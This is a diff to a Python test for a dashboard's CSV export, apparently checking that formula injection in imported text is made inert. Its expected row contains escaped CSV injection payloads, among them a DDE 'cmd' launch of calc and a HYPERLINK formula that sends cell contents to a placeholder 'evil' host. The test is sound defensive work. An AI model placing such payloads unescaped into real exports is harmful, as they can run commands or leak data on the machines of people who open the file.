@@ -160,6 +160,7 @@ def test_dashboard_discrepancy_csv_makes_imported_text_inert() -> None:
 
     row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
     assert row == [
-        "CHARGE_WITHOUT_SALE", "Provision ohne Verkauf", "04.11.2026", "'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(A1)",
+        "CHARGE_WITHOUT_SALE", "Provision ohne Verkauf", "04.11.2026", "'+cmd|' /C calc'!A0",
+        "'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(A1)",
         "0,00", "-12,30", "-12,30", "Händler", "12,30", "'-x.csv:2", "'=1+1",
     ]
